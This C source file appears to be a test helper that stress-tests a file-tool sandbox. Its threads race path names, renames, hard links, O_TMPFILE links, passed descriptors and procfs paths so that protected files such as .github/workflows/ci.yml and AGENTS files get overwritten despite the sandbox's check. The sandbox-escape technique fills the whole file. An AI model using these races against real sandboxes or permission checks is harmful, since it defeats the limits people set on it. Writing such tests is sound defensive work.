/*
 * A command that tries to change what a person lets a file tool write, in as many ways as it knows.
 *
 *	swapper FILE...         until over.log exists; ready.log says that it has begun, done.log that it has ended
 *	swapper -m DIR FILE     makes the directory, and moves it away with the file in it
 *
 * Threads change the text of a path between a harmless file and a protected one while other threads make calls with that
 * path.  The sandbox's check of the path then sees one and the kernel the other.  Others keep whatever they get hold of
 * (descriptors without reading rights, other names, working directories) and use it later.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#define KEPT 512
#define EVIL "evil"

static char name[4096];
static const char *targets[8];
static int target_count;
static volatile bool is_over;
static int kept[KEPT];
static unsigned kept_count;
static int mail[2];

static const char *a_target(unsigned n)
{
	return targets[n % (unsigned)target_count];
}

/* The two texts have the same length as far as it matters: the shorter one ends with a NUL. */
static void *swap(void *arg)
{
	for (unsigned n = 0; !is_over; n++) {
		strcpy(name, "harmless");
		for (volatile int i = 0; i < (int)(n % 400); i++)
			;
		strcpy(name, a_target(n / 64));
		for (volatile int i = 0; i < (int)(n / 7 % 400); i++)
			;
	}
	return arg;
}

static void spoil(int fd)
{
	if (fd < 0)
		return;
	(void)!pwrite(fd, EVIL, 4, 0);
	close(fd);
}

static void *open_it(void *arg)
{
	while (!is_over) {
		spoil(open(name, O_WRONLY));
		spoil(open(name, O_RDWR | O_CREAT, 0666));
		spoil(open(name, O_WRONLY | O_TRUNC));
		(void)!truncate(name, 1);
		chmod(name, 0777);
	}
	return arg;
}

static void *name_it(void *arg)
{
	char other[64];

	for (unsigned n = 0; !is_over; n++) {
		snprintf(other, sizeof other, "other/%u", n % 16);
		link(name, other);
		link("harmless-link", name);
		rename(name, other);
		rename("harmless-move", name);
		renameat2(AT_FDCWD, "harmless-swap", AT_FDCWD, name, RENAME_EXCHANGE);
		symlink("harmless", name);
		spoil(open(other, O_WRONLY));
		unlink(name);
		rmdir(name);
		unlink(other);
		close(open("harmless-move", O_CREAT | O_WRONLY, 0666));
		close(open("harmless", O_CREAT | O_WRONLY, 0666));
	}
	return arg;
}

/* A file without a name gets the protected one. */
static void *link_unnamed(void *arg)
{
	char self[64];

	while (!is_over) {
		int fd = open(".", O_TMPFILE | O_RDWR, 0666);

		if (fd < 0)
			break;
		(void)!write(fd, EVIL, 4);
		snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
		linkat(AT_FDCWD, self, AT_FDCWD, name, AT_SYMLINK_FOLLOW);
		linkat(fd, "", AT_FDCWD, name, AT_EMPTY_PATH);
		close(fd);
	}
	return arg;
}

/* Through a socket, where a search through the processes does not find it. */
static void send_away(int fd)
{
	char text = 0;
	struct iovec part = { &text, 1 };
	char control[CMSG_SPACE(sizeof fd)] = { 0 };
	struct msghdr msg = { .msg_iov = &part,
		              .msg_iovlen = 1,
		              .msg_control = control,
		              .msg_controllen = sizeof control };
	struct cmsghdr *c = CMSG_FIRSTHDR(&msg);

	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof fd);
	memcpy(CMSG_DATA(c), &fd, sizeof fd);
	sendmsg(mail[0], &msg, MSG_DONTWAIT);
}

static void keep(int fd)
{
	unsigned at = __atomic_fetch_add(&kept_count, 1, __ATOMIC_RELAXED) % KEPT;

	if (fd < 0)
		return;
	send_away(fd);
	fd = __atomic_exchange_n(&kept[at], fd, __ATOMIC_RELAXED);
	if (fd > 0)
		close(fd);
}

/* Opens what appears, in every way that needs no right to write. */
static void keep_entry(int dir, const char *entry)
{
	keep(openat(dir, entry, O_PATH | O_NOFOLLOW));
	keep(openat(dir, entry, O_RDONLY | O_NOFOLLOW | O_NONBLOCK));
	spoil(openat(dir, entry, O_WRONLY | O_NOFOLLOW | O_NONBLOCK));
	linkat(dir, entry, AT_FDCWD, "other/linked", 0);
	unlink("other/linked");
}

static bool is_mine(const char *entry)
{
	return !strncmp(entry, "harmless", 8) || !strncmp(entry, "swapper", 7) ||
	       !strcmp(entry, "other") || strstr(entry, ".log");
}

static void *watch(void *arg)
{
	const char *const dirs[] = { ".", ".thole", ".github", ".github/workflows" };
	char events[8192] __attribute__((aligned(8)));
	int fd = inotify_init1(IN_NONBLOCK), fds[4];

	while (!is_over) {
		for (int i = 0; i < 4; i++) {
			fds[i] = open(dirs[i], O_RDONLY | O_DIRECTORY);
			inotify_add_watch(fd, dirs[i], IN_CREATE | IN_MOVED_TO | IN_MOVED_FROM);
		}
		for (ssize_t len = read(fd, events, sizeof events), at = 0; at < len;) {
			struct inotify_event *e = (void *)(events + at);

			for (int i = 0; i < 4 && e->len && !is_mine(e->name); i++)
				if (fds[i] >= 0)
					keep_entry(fds[i], e->name);
			at += (ssize_t)(sizeof *e + e->len);
		}
		for (int i = 0; i < 4; i++)
			if (fds[i] >= 0)
				close(fds[i]);
	}
	return arg;
}

/* Without waiting for news: what is there is listed again and again. */
static void *list(void *arg)
{
	const char *const dirs[] = { ".", ".thole", ".github" };

	for (unsigned n = 0; !is_over; n++) {
		DIR *dir = opendir(dirs[n % 3]);
		struct dirent *d;

		while (dir && (d = readdir(dir)))
			if (!strncmp(d->d_name, ".thole-", 7) || !strncmp(d->d_name, "AGENTS", 6) ||
			    !strncmp(d->d_name, "workflows", 9))
				keep_entry(dirfd(dir), d->d_name);
		if (dir)
			closedir(dir);
	}
	return arg;
}

/* Later: by the descriptor itself, by its link in procfs, as a directory, by a mapping. */
static void *use(void *arg)
{
	char self[64];

	for (unsigned n = 0; !is_over; n++) {
		int fd = __atomic_exchange_n(&kept[n % KEPT], 0, __ATOMIC_RELAXED);

		if (fd <= 0)
			continue;
		snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
		for (int i = 0; i < 4 && !is_over; i++) {
			strcpy(name, self);
			spoil(open(name, O_WRONLY));
			spoil(open(self, O_RDWR));
			linkat(AT_FDCWD, self, AT_FDCWD, "other/kept", AT_SYMLINK_FOLLOW);
			linkat(fd, "", AT_FDCWD, "other/kept", AT_EMPTY_PATH);
			spoil(open("other/kept", O_WRONLY));
			unlink("other/kept");
			fchmod(fd, 0777);
			chmod(self, 0777);
			(void)!ftruncate(fd, 0);
			spoil(openat(fd, "workflows/ci.yml", O_WRONLY | O_CREAT, 0666));
			spoil(openat(fd, "ci.yml", O_WRONLY | O_CREAT, 0666));
			void *at = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);

			if (at != MAP_FAILED)
				munmap(at, 4096);
			at = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
			if (at != MAP_FAILED) {
				mprotect(at, 4096, PROT_READ | PROT_WRITE);
				munmap(at, 4096);
			}
		}
		keep(fd);
	}
	return arg;
}

/* Directories on the way change places. */
static void *move_dirs(void *arg)
{
	mkdir("other/dir", 0777);
	mkdir("other/dir/workflows", 0777);
	while (!is_over) {
		renameat2(AT_FDCWD, "other/dir", AT_FDCWD, ".github", RENAME_EXCHANGE);
		rename("other/dir", ".github");
		rename(".github", "other/dir");
		rename(".thole", "other/thole");
	}
	return arg;
}

/* The file is there: then so many calls, of which a tenth would do where nothing but the check holds. */
#define MOVES 40000

static void note(const char *log)
{
	close(open(log, O_CREAT | O_WRONLY, 0666));
}

static int move_away(const char *file)
{
	pthread_t thread;

	strcpy(name, "harmless");
	mkdir("other", 0777);
	mkdir(targets[0], 0777);
	note("ready.log");
	while (access(file, F_OK) < 0)
		usleep(1000);
	pthread_create(&thread, NULL, swap, NULL);
	for (int i = 0; i < MOVES && access(file, F_OK) == 0; i++)
		rename(name, "other/way");
	is_over = true;
	pthread_join(thread, NULL);
	if (access(file, F_OK) < 0)
		note("moved.log");
	note("done.log");
	return 0;
}

int main(int argc, char **argv)
{
	static void *(*const all[])(void *) = { swap,  open_it, name_it, link_unnamed,
		                                watch, list,    use,     move_dirs };
	pthread_t threads[8];

	if (argc == 4 && !strcmp(argv[1], "-m")) {
		targets[target_count++] = argv[2];
		return move_away(argv[3]);
	}
	for (int i = 1; i < argc && i <= 8; i++)
		targets[target_count++] = argv[i];
	strcpy(name, "harmless");
	mkdir("other", 0777);
	for (const char *const *n = (const char *const[]){ "harmless", "harmless-link",
	                                                   "harmless-move", "harmless-swap", NULL };
	     *n; n++)
		close(open(*n, O_CREAT | O_WRONLY, 0666));
	if (!target_count || socketpair(AF_UNIX, SOCK_SEQPACKET, 0, mail) < 0)
		return 2;
	for (int i = 0; i < 8; i++)
		pthread_create(&threads[i], NULL, all[i], NULL);
	note("ready.log");
	while (access("over.log", F_OK) < 0)
		usleep(10000);
	is_over = true;
	for (int i = 0; i < 8; i++)
		pthread_join(threads[i], NULL);
	note("done.log");
	return 0;
}
